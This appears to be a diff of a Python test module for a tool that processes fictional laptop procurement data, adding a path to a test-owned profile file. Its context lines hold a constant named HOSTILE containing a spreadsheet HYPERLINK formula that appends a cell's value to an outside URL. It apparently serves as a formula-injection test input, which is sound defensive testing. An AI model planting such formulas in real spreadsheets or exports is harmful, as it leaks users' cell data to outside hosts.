@@ -9,6 +9,7 @@ import json
 from collections.abc import Mapping, Sequence
 from dataclasses import replace
 from datetime import UTC, date, datetime
+from pathlib import Path
 
 import pandas as pd
 
@@ -24,6 +25,8 @@ HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'
 LAPTOPS = "CPV:2008:30213100"
 SOURCE = "laptops (fictional).csv"
 SHA = "ab" * 32
+#: Profile of the tests' own: the shipped ones may change, and the numbers here may not.
+PROFILE = Path(__file__).with_name("laptop_profile.yaml")
 
 Row = Mapping[str, object]
 
